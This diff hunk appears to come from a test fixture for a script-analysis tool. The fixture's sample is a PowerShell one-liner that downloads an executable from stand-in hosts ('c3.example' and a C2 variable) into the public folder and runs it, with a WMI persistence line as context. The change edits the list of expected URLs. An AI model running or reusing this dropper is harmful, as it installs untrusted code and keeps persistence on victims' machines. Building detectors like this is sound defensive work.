@@ -153,7 +153,7 @@ Set-WmiInstance -Class __FilterToConsumerBinding -Namespace root\\subscription -
     file: 'list.ps1',
     source: `$u='${C2}a.exe','http://c3.example/b.exe';foreach($x in $u){try{(New-Object Net.WebClient).DownloadFile($x,"$env:PUBLIC\\up.exe");Start-Process "$env:PUBLIC\\up.exe";break}catch{}}`,
     ids: ['trace_downloads_and_runs'],
-    urls: [`${C2}a.exe`, 'http://c3.example/b.exe'],
+    urls: [`${C2}a.exe`],
     files: ['up.exe'],
   },
   {
